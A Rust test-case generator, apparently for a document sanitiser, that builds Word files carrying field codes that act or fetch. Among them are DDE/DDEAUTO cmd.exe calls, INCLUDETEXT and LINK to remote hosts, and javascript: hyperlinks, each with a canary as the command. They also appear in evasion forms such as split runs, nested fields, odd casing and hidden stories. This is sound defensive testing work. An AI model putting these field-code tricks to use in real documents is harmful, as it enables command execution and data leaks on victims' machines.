//! Word fields that act: each code, in simple and split form, in the body and
//! in every other story.

use super::docx::base;
use super::office::planted;
use crate::case::Case;
use crate::make::package::{Package, XML};
use crate::make::xml::{Wording, escape};

const DOC: &str = "word/document.xml";
const END: &str = "<w:sectPr>";

/// Field codes that act or fetch; `{}` is the canary.
const CODES: &[(&str, &str)] = &[
    ("dde", "DDE cmd \"/c {}\" x"),
    ("ddeauto", "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k {}\""),
    ("ddeauto-case", "dDeAuTo cmd \"/k {}\""),
    ("ddeauto-space", "  \t DDEAUTO   cmd \"/k {}\""),
    ("includetext", "INCLUDETEXT \"http://{}.example/x.docx\""),
    ("includepicture", "INCLUDEPICTURE \"http://{}.example/x.png\" \\d"),
    ("include", "INCLUDE \"\\\\\\\\{}.example\\\\x\""),
    ("link", "LINK Excel.Sheet.8 \"\\\\\\\\{}.example\\\\x.xls\" \\a"),
    ("import", "IMPORT \"http://{}.example/x.png\""),
    ("database", "DATABASE \\d \"C:\\\\{}.mdb\" \\c \"DSN=x\" \\s \"SELECT 1\""),
    ("macrobutton", "MACROBUTTON {} 押す"),
    ("macrobutton-name", "MACROBUTTON Auto{} Click"),
    ("autotext", "AUTOTEXT {}"),
    ("rd", "RD \"http://{}.example/x.doc\""),
    ("print", "PRINT \"{}\""),
    ("embed", "EMBED Package.{}"),
    ("gotobutton", "GOTOBUTTON {} x"),
    ("quote", "QUOTE 68 68 69 {}"),
    ("set", "SET a \"{}\""),
    ("ask", "ASK a \"{}\""),
    ("fillin", "FILLIN \"{}\""),
    ("hyperlink-script", "HYPERLINK \"javascript:{}\""),
    ("hyperlink-file", "HYPERLINK \"file:///\\\\\\\\{}.example\\\\x.exe\""),
    ("addin", "ADDIN {}"),
    ("control", "CONTROL {}"),
    ("htmlcontrol", "HTMLCONTROL {}"),
    ("barcode-unknown", "SKFIELD {}"),
    ("docvariable", "DOCVARIABLE {}"),
    ("mergefield-next", "NEXTIF {} = 1"),
];

/// Every case of this file.
pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, code) in CODES {
        cases.push(plain(&format!("docx-field-{name}-simple"), |canary| {
            body(&simple(&code.replace("{}", canary)))
        }));
        cases.push(plain(&format!("docx-field-{name}-split"), |canary| {
            body(&split(&code.replace("{}", canary)))
        }));
    }
    cases.extend(planted(base, "docx-field-worded", "docx", |p, canary| {
        p.before(
            DOC,
            END,
            &format!("<w:p>{}</w:p>", split(&format!("DDEAUTO cmd \"/k {canary}\""))),
        );
    }));
    cases.extend(planted(base, "docx-field-simple-worded", "docx", |p, canary| {
        p.before(
            DOC,
            END,
            &format!("<w:p>{}</w:p>", simple(&format!("INCLUDETEXT \"http://{canary}.example/\""))),
        );
    }));
    cases.push(plain("docx-field-nested", |canary| {
        body(&format!(
            "{BEGIN}{}{BEGIN}{}{MIDDLE}{}{FINISH}{}{MIDDLE}{}{FINISH}",
            instruction(" DDEAUTO "),
            instruction(" QUOTE 99 109 100 "),
            run("cmd"),
            instruction(&format!(" \"/k {canary}\" ")),
            run("x")
        ))
    }));
    cases.push(plain("docx-field-letters", |canary| {
        let letters: String =
            "DDEAUTO ".chars().map(|letter| instruction(&letter.to_string())).collect();
        body(&format!(
            "{BEGIN}{letters}{}{MIDDLE}{}{FINISH}",
            instruction(&format!("cmd {canary}")),
            run("x")
        ))
    }));
    cases.push(plain("docx-field-paragraphs", |canary| {
        let head = format!(
            "{BEGIN}{}</w:p><w:p>{}",
            instruction("DDE"),
            instruction(&format!("AUTO cmd {canary}"))
        );
        body(&format!("{head}{MIDDLE}{}{FINISH}", run("x")))
    }));
    cases.push(plain("docx-field-no-separator", |canary| {
        body(&format!("{BEGIN}{}{FINISH}", instruction(&format!("DDEAUTO cmd {canary}"))))
    }));
    cases.push(plain("docx-field-no-end", |canary| {
        body(&format!("{BEGIN}{}", instruction(&format!("DDEAUTO cmd {canary}"))))
    }));
    cases.push(plain("docx-field-deleted", |canary| {
        let code = format!("DDEAUTO cmd {canary}");
        body(&format!("<w:del w:id=\"1\" w:author=\"a\" w:date=\"2026-01-01T00:00:00Z\">{BEGIN}<w:r><w:delInstrText>{code}</w:delInstrText></w:r>{MIDDLE}<w:r><w:delText>x</w:delText></w:r>{FINISH}</w:del>"))
    }));
    cases.push(plain("docx-field-smarttag", |canary| {
        let code = split(&format!("DDEAUTO cmd {canary}"));
        body(&format!("<w:sdt><w:sdtContent>{code}</w:sdtContent></w:sdt>"))
    }));
    for (story, root, kind) in STORIES {
        cases.push(plain(&format!("docx-field-in-{story}"), |canary| {
            in_story(story, root, kind, canary)
        }));
    }
    cases.push(plain("docx-field-in-textbox", |canary| {
        let code = split(&format!("DDEAUTO cmd {canary}"));
        body(&format!("<w:r><w:pict><v:shape id=\"t\" style=\"width:90pt;height:90pt\"><v:textbox><w:txbxContent><w:p>{code}</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>"))
    }));
    let kept = "<w:p>".to_owned() + &split("PAGE") + &split("DATE \\@ \"ggge年M月d日\"") + "</w:p>";
    let mut package = base();
    package.before(DOC, END, &kept);
    cases.push(Case::twin(
        "docx-field-twin",
        "docx",
        package.write(Wording::Plain),
        &[super::SENTENCE, "結果"],
    ));
    cases
}

const BEGIN: &str = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
const MIDDLE: &str = "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>";
const FINISH: &str = "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";

const STORIES: &[(&str, &str, &str)] = &[
    ("header", "hdr", "header"),
    ("footer", "ftr", "footer"),
    ("footnotes", "footnotes", "footnotes"),
    ("endnotes", "endnotes", "endnotes"),
    ("comments", "comments", "comments"),
];

fn plain(id: &str, make: impl FnOnce(&str) -> Package) -> Case {
    Case::gone(id, "docx", |canary| make(canary).write(Wording::Plain))
}

fn body(runs: &str) -> Package {
    let mut package = base();
    package.before(DOC, END, &format!("<w:p>{runs}</w:p>"));
    package
}

fn simple(code: &str) -> String {
    format!("<w:fldSimple w:instr=\"{}\">{}</w:fldSimple>", escape(code), run("結果"))
}

fn split(code: &str) -> String {
    format!("{BEGIN}{}{MIDDLE}{}{FINISH}", instruction(code), run("結果"))
}

fn instruction(code: &str) -> String {
    format!("<w:r><w:instrText xml:space=\"preserve\">{}</w:instrText></w:r>", escape(code))
}

fn run(text: &str) -> String {
    format!("<w:r><w:t>{text}</w:t></w:r>")
}

fn in_story(story: &str, root: &str, kind: &str, canary: &str) -> Package {
    let mut package = base();
    let code = split(&format!("DDEAUTO cmd \"/k {canary}\""));
    let item = match root {
        "footnotes" => format!("<w:footnote w:id=\"2\"><w:p>{code}</w:p></w:footnote>"),
        "endnotes" => format!("<w:endnote w:id=\"2\"><w:p>{code}</w:p></w:endnote>"),
        "comments" => format!("<w:comment w:id=\"0\" w:author=\"a\"><w:p>{code}</w:p></w:comment>"),
        _ => format!("<w:p>{code}</w:p>"),
    };
    let text = format!(
        "{XML}<w:{root} xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">{item}</w:{root}>"
    );
    let file = format!("{story}9.xml");
    let full = format!("application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}+xml");
    package.part(&format!("word/{file}"), &full, text);
    package.relate(DOC, "rIdX", kind, &file);
    let use_it = match root {
        "ftr" => package.replace(
            DOC,
            "<w:pgSz",
            "<w:footerReference w:type=\"default\" r:id=\"rIdX\"/><w:pgSz",
        ),
        "hdr" => package.replace(
            DOC,
            "<w:pgSz",
            "<w:headerReference w:type=\"first\" r:id=\"rIdX\"/><w:pgSz",
        ),
        "footnotes" => {
            package.before(DOC, END, "<w:p><w:r><w:footnoteReference w:id=\"2\"/></w:r></w:p>")
        }
        "endnotes" => {
            package.before(DOC, END, "<w:p><w:r><w:endnoteReference w:id=\"2\"/></w:r></w:p>")
        }
        _ => package.before(DOC, END, "<w:p><w:r><w:commentReference w:id=\"0\"/></w:r></w:p>"),
    };
    use_it.clone()
}
